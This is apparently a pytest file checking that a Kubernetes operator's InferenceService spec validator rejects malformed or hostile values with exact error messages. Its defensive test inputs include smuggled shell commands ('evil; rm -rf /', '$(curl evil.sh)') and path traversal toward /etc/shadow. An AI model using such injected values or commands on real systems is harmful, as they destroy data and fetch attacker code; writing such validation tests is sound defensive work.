"""Hostile InferenceService specs and names: each refused by the Python check (the models, whose
CEL rules are the CRD's own text evaluated by cel-python, as `tokenscale plan -f` and the operator
run them) with the exact message naming the field and the fix, and refused by the API server too
(crd_check: the generated CRD's schema and CEL rules). Strict types: no string for a number or a
boolean, no 2.0 or true for a GPU count."""

from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import minimal_spec
from tests.unit.hostile import document, operator_message, python_problems, server_problems, tally
from tests.unit.test_api_schema import BAD_SPECS, set_in

DNS1035 = (
    "metadata.name must be a DNS-1035 label, as it names the Service: lowercase letters, digits "
    "and -, starting with a letter and ending with a letter or digit (e.g. llama-chat, not 1abc "
    "or a.b)"
)
IMAGE = (
    "spec.engine.image must be an image reference such as registry.example.com/team/worker:1.2 or "
    "name@sha256:<64 hex digits>: lowercase repository path, no spaces or shell characters"
)
REVISION_HF = (
    "spec.model.revision applies only to hf:// sources: a pvc:// or s3:// source is one fixed "
    "copy of the weights; remove revision, or point spec.model.source at the directory holding "
    "that revision"
)
REVISION_FORM = (
    "spec.model.revision must be a branch, tag or commit id (letters, digits, - . _ /), e.g. main "
    "or 0e9e39f"
)
SYSTEM_PRIORITY = (
    "spec.resources.priorityClassName must not be a system-* class (system-node-critical and "
    "system-cluster-critical are for cluster components and can evict other pods); create a "
    "PriorityClass of your own and name it here"
)
GPUS = (
    "spec.resources.gpusPerReplica: must be 1, 2, 4, 8 or auto, written as a YAML number or the "
    "word auto"
)
UNKNOWN_FIELD = (
    "Extra inputs are not permitted; remove it or fix its spelling (kubectl explain "
    "inferenceservice.spec lists the fields)"
)
WHOLE = "write a whole number without quotes, e.g. 8192"

# (field under spec, value, the exact problems)
ISSUE_SPEC_CASES: list[tuple[str, Any, list[str]]] = [
    ("resources.priorityClassName", "system-node-critical", [SYSTEM_PRIORITY]),
    (
        "resources.affinity",
        {"nodeAffinity": {"requiredDuringScheduling": "yes"}},
        ["spec.resources.affinity.nodeAffinity.requiredDuringScheduling: " + UNKNOWN_FIELD],
    ),
    ("engine.image", "evil; rm -rf /", [IMAGE]),
    (
        "model",
        {"source": "pvc://models/llama-8b", "architecture": "llama-3.1-8b", "revision": "main"},
        [REVISION_HF],
    ),
    (
        "model",
        {"source": "s3://bucket/llama-8b", "architecture": "llama-3.1-8b", "revision": "v2"},
        [
            REVISION_HF
            + "; spec.model.source: an s3:// model is read through the model cache: set "
            "spec.model.cache.storageClassName (tokenscale creates a ReadWriteMany claim) or "
            "spec.model.cache.claimName (an existing one), and one Job copies the weights onto it"
        ],
    ),
    ("resources.gpusPerReplica", "4", [GPUS + " (got '4')"]),
    ("resources.gpusPerReplica", 2.0, [GPUS + " (got 2.0)"]),
    ("resources.gpusPerReplica", True, [GPUS + " (got True)"]),
    (
        "model.maxModelLen",
        "8192",
        ["spec.model.maxModelLen: Input should be a valid integer (got '8192'); " + WHOLE],
    ),
    (
        "engine.enablePrefixCaching",
        "yes",
        [
            "spec.engine.enablePrefixCaching: Input should be a valid boolean (got 'yes'); write "
            "true or false without quotes"
        ],
    ),
]
OWN_SPEC_CASES: list[tuple[str, Any, list[str]]] = [
    ("resources.priorityClassName", "system-cluster-critical", [SYSTEM_PRIORITY]),
    (
        "resources.priorityClassName",
        "Bad_Name",
        [
            "spec.resources.priorityClassName must be a PriorityClass name: lowercase letters, "
            "digits, - and ., starting and ending with a letter or digit"
        ],
    ),
    (
        "resources.affinity",
        "junk",
        [
            "spec.resources.affinity: Input should be a valid dictionary or instance of Affinity "
            "(got 'junk'); write a mapping of the fields kubectl explain lists"
        ],
    ),
    (
        "resources.affinity",
        {
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": []}
            }
        },
        [
            "spec.resources.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution."
            "nodeSelectorTerms: List should have at least 1 item after validation, not 0"
        ],
    ),
    (
        "resources.affinity",
        {
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {
                    "nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "In"}]}]
                }
            }
        },
        [
            "spec.resources.affinity: a match expression with operator In or NotIn needs values; "
            "Exists and DoesNotExist take none; Gt and Lt take exactly one integer"
        ],
    ),
    (
        "resources.affinity",
        {
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {
                    "nodeSelectorTerms": [
                        {"matchExpressions": [{"key": "zone", "operator": "Near", "values": ["a"]}]}
                    ]
                }
            }
        },
        [
            "spec.resources.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution."
            "nodeSelectorTerms[0].matchExpressions[0].operator: Input should be 'In', 'NotIn', "
            "'Exists', 'DoesNotExist', 'Gt' or 'Lt'"
        ],
    ),
    (
        "resources.affinity",
        {
            "nodeAffinity": {
                "preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 0, "preference": {}}]
            }
        },
        [
            "spec.resources.affinity.nodeAffinity.preferredDuringSchedulingIgnoredDuringExecution["
            "0].weight: Input should be greater than or equal to 1"
        ],
    ),
    (
        "resources.affinity",
        {
            "podAntiAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": [
                    {"labelSelector": {"matchLabels": {"app": "x"}}}
                ]
            }
        },
        [
            "spec.resources.affinity.podAntiAffinity."
            "requiredDuringSchedulingIgnoredDuringExecution[0].topologyKey: Field required; add it"
        ],
    ),
    (
        "resources.affinity",
        {
            "podAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": [
                    {
                        "topologyKey": "zone",
                        "labelSelector": {
                            "matchExpressions": [
                                {"key": "app", "operator": "Exists", "values": ["x"]}
                            ]
                        },
                    }
                ]
            }
        },
        [
            "spec.resources.affinity: a label selector expression with operator In or NotIn needs "
            "values; Exists and DoesNotExist take none"
        ],
    ),
    ("engine.image", "Registry.io/Team/Worker:1", [IMAGE]),
    ("engine.image", "worker:tag with space", [IMAGE]),
    ("engine.image", "worker@sha256:abc", [IMAGE]),
    ("engine.image", "$(curl evil.sh)", [IMAGE]),
    ("engine.image", "", [IMAGE]),
    ("model.revision", "main; rm -rf /", [REVISION_FORM]),
    ("model.revision", "../../etc", [REVISION_FORM]),
    (
        "model.source",
        "pvc://claim/../../etc/shadow",
        [
            "spec.model.source must not contain . or .. path segments: they would leave the claim "
            "or bucket; give the path inside it"
        ],
    ),
    (
        "model.source",
        "hf://Ωrg/model",
        [
            "spec.model.source: 'hf://Ωrg/model' is not in the accepted form; use hf://org/name, "
            "pvc://claim/path or s3://bucket/path (ASCII letters, digits, _ . - in names)"
        ],
    ),
    (
        "engine.maxNumSeqs",
        64.0,
        ["spec.engine.maxNumSeqs: Input should be a valid integer (got 64.0); " + WHOLE],
    ),
    (
        "scaling.minReplicas",
        "1",
        ["spec.scaling.minReplicas: Input should be a valid integer (got '1'); " + WHOLE],
    ),
    ("scaling.mode", 1, ["spec.scaling.mode: Input should be 'auto', 'advisory' or 'off'"]),
    (
        "slo.ttftSeconds",
        "1",
        [
            "spec.slo.ttftSeconds: Input should be a valid number (got '1'); write a number "
            "without quotes, e.g. 0.5"
        ],
    ),
    (
        "slo.ttftSeconds",
        True,
        [
            "spec.slo.ttftSeconds: Input should be a valid number (got True); write a number "
            "without quotes, e.g. 0.5"
        ],
    ),
    (
        "secrets.hubToken",
        {"name": "Bad Name"},
        [
            "spec.secrets: a Secret name is lowercase letters, digits, - and ., starting and "
            "ending with a letter or digit (e.g. hf-token)"
        ],
    ),
    (
        "secrets.hubToken",
        {"name": "hf", "key": "a/b"},
        ["spec.secrets: a Secret key is letters, digits, -, _ and . (e.g. token)"],
    ),
    (
        "resources.tolerations",
        [{"key": "gpu", "tolerationSeconds": "60"}],
        [
            "spec.resources.tolerations[0].tolerationSeconds: Input should be a valid integer "
            "(got '60'); " + WHOLE
        ],
    ),
    (
        "resources.nodeSelector",
        {"zone": 1},
        [
            "spec.resources.nodeSelector.zone: Input should be a valid string (got 1); write it "
            "as a string"
        ],
    ),
    (
        "scaling.batch.enabled",
        "false",
        [
            "spec.scaling.batch.enabled: Input should be a valid boolean (got 'false'); write "
            "true or false without quotes"
        ],
    ),
    (
        "engine.extraArgs",
        [1, 2],
        [
            "spec.engine.extraArgs[0]: Input should be a valid string (got 1); write it as a "
            "string",
            "spec.engine.extraArgs[1]: Input should be a valid string (got 2); write it as a "
            "string",
        ],
    ),
]
ISSUE_NAME_CASES: list[tuple[str, list[str]]] = [
    ("1abc", [DNS1035]),
    ("a.b", [DNS1035]),
    (
        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        [
            "metadata.name must be at most 52 characters: it also names the Service, the "
            "Deployment and its pods"
        ],
    ),
]
OWN_NAME_CASES: list[tuple[str, list[str]]] = [
    ("Llama", [DNS1035]),
    ("svc-", [DNS1035]),
    ("-svc", [DNS1035]),
    ("svc_1", [DNS1035]),
    ("", [DNS1035]),
    ("svc.example", [DNS1035]),
]
SPEC_CASES = ISSUE_SPEC_CASES + OWN_SPEC_CASES
NAME_CASES = ISSUE_NAME_CASES + OWN_NAME_CASES


def test_the_suite_has_more_own_cases_than_issue_cases() -> None:
    issue = len(ISSUE_SPEC_CASES) + len(ISSUE_NAME_CASES)
    assert len(OWN_SPEC_CASES) + len(OWN_NAME_CASES) >= issue == 13


@pytest.mark.parametrize(
    ("field", "value", "expected"), SPEC_CASES, ids=[f"{f}={v!r}" for f, v, _ in SPEC_CASES]
)
def test_bad_spec_refused_with_field_and_fix(field: str, value: Any, expected: list[str]) -> None:
    spec = set_in(minimal_spec(), field, value)
    assert python_problems(document(spec)) == expected
    assert operator_message(spec) == "; ".join(expected)
    # The one case the API server lets through: 64.0 is the integer 64 to it (JSON has one
    # number type); the operator refuses it in status and `tokenscale plan` on the command line.
    assert (server_problems(document(spec)) != []) is (
        (field, value) != ("engine.maxNumSeqs", 64.0)
    )


@pytest.mark.parametrize(("name", "expected"), NAME_CASES, ids=[n[:20] for n, _ in NAME_CASES])
def test_bad_name_refused(name: str, expected: list[str]) -> None:
    assert python_problems(document(name=name)) == expected
    assert server_problems(document(name=name)) == expected


@pytest.mark.parametrize("name", ["a", "llama-chat", "x" * 52, "m2-8b"])
def test_good_names_pass(name: str) -> None:
    assert python_problems(document(name=name)) == []
    assert server_problems(document(name=name)) == []


@pytest.mark.parametrize(
    ("field", "value", "expected"), BAD_SPECS, ids=[f"{f}={v!r}" for f, v, _ in BAD_SPECS]
)
def test_python_and_api_server_agree_on_the_schema_suite(
    field: str, value: Any, expected: str
) -> None:
    doc = document(set_in(minimal_spec(), field, value))
    assert python_problems(doc) != [] and server_problems(doc) != []


def test_valid_specs_pass_both() -> None:
    affinity = {
        "nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [
                    {"matchExpressions": [{"key": "zone", "operator": "In", "values": ["a"]}]}
                ]
            }
        }
    }
    spec = minimal_spec(
        engine={"image": "registry.example.com:5000/team/worker:1.2", "extraArgs": ["--seed", "7"]},
        resources={"gpu": "h100-80gb", "gpusPerReplica": 2, "affinity": affinity,
                   "priorityClassName": "inference-high"},
        secrets={"hubToken": {"name": "hf-token", "key": "token"}},
    )  # fmt: skip
    spec["model"]["revision"] = "main"
    assert python_problems(document(spec)) == []
    assert server_problems(document(spec)) == []


def test_tally() -> None:
    docs = [document(set_in(minimal_spec(), f, v)) for f, v, _ in SPEC_CASES]
    docs += [document(name=n) for n, _ in NAME_CASES]
    counts = tally(docs, python_problems)
    print(f"specs and names: {dict(counts)}")
    assert counts["tried"] == len(docs) == counts["rejected clearly"]
